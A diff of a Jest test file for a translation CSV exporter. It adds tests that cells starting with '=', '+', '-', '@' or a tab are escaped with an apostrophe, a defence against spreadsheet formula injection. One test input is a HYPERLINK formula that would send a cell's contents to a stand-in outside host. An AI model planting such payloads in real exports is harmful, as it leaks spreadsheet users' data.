@@ -1,5 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import fc from 'fast-check';
+import { csvLines } from '../csv.ts';
 import { readTranslationsCsv, translationsCsv, withCsvTexts } from '../index.ts';
 
 const receipt = {
@@ -32,7 +33,7 @@ describe('translations as a table', () => {
   it('come back as they were, whatever their texts', () => {
     const text = fc.oneof(
       fc.string({ unit: 'grapheme', minLength: 1 }),
-      fc.constantFrom('"', ',', ';', '\n', 'a\r\nb', ' x ', '=1+1'),
+      fc.constantFrom('"', ',', ';', '\n', 'a\r\nb', ' x ', '=1+1', "'=1+1", "''-", "'s"),
     );
     const plural = fc.record({ plural: text, one: text, other: text });
     const texts = fc.dictionary(fc.constantFrom('a', 'b', 'c.d'), fc.oneof(text, plural), { minKeys: 1 });
@@ -48,6 +49,15 @@ describe('translations as a table', () => {
       }),
     );
   });
+
+  it.each(['=HYPERLINK("https://e.com/?"&A1)', '+1', '-1', '@sum', '\t=1'])(
+    'are no formula for the spreadsheet of a translator: %j',
+    (text) => {
+      const csv = translationsCsv([{ template: 'receipt', translations: { en: { thanks: text } } }]);
+      const read = csvLines(csv.slice(1), ',');
+      expect(typeof read === 'number' ? read : read[1]?.cells.at(-1)).toBe(`'${text}`);
+    },
+  );
 
   it('are read as a spreadsheet writes them that separates by semicolons', () => {
     const rows = rowsIn('template;key;form;de\nreceipt;thanks;;"Danke; bis bald"\n', 'receipt');
